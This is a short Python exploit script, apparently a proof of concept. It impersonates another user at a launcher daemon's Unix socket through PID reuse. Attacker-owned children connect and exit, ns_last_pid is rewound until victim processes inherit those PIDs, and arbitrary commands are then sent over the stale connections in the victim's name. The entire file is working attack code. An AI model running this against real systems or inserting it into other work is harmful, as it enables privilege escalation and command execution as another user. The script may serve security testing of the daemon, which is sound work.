#!/usr/bin/env python3
"""Passes for another user's process at the launcher's socket: pidreuse.py SOCKET NODE ATTACKER VICTIM COMMAND

Children of ATTACKER connect and end; then processes of VICTIM come to have their numbers; then the requests are sent. Runs as root of a pid
namespace, which only makes it quick: the numbers are set back with ns_last_pid, where an attacker would fork until they come round.
Prints `reused N` (connections whose number a process of VICTIM had) and the launcher's answers.
"""
import os
import socket
import struct
import sys
import time

PATH, NODE, ATTACKER, VICTIM, COMMAND = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
CHILDREN = 12


def connect_and_end():
    """A connection whose other end is a process that has ended."""
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    child = os.fork()
    if child == 0:
        os.setgroups([])
        os.setresgid(ATTACKER, ATTACKER, ATTACKER)
        os.setresuid(ATTACKER, ATTACKER, ATTACKER)
        connection.connect(PATH)
        os._exit(0)
    os.waitpid(child, 0)
    return child, connection


def user_of(pid):
    try:
        return os.stat("/proc/%d" % pid).st_uid
    except FileNotFoundError:
        return None


def field(number, text):
    data = text.encode()
    size = len(data)
    length = b""
    while size >= 0x80:
        length += bytes([size & 0x7F | 0x80])
        size >>= 7
    return bytes([number << 3 | 2]) + length + bytes([size]) + data


def ask(connection):
    request = field(1, NODE) + field(2, COMMAND)
    try:
        connection.sendall(struct.pack("<i", len(request)) + request)
        connection.settimeout(20)
        return connection.recv(4096)[4:].decode(errors="replace").strip()
    except OSError as error:
        return str(error)


connections = [connect_and_end() for _ in range(CHILDREN)]
# The launcher has taken them all, and read nothing.
time.sleep(0.5)
first = connections[0][0]
deadline = time.monotonic() + 15
reused = []
while time.monotonic() < deadline and not reused:
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(first - 1))
    again = time.monotonic() + 1
    while time.monotonic() < again and not reused:
        reused = [(pid, c) for pid, c in connections if user_of(pid) == VICTIM]
print("reused", len(reused), flush=True)
for pid, connection in reused:
    print("answer", ask(connection), flush=True)
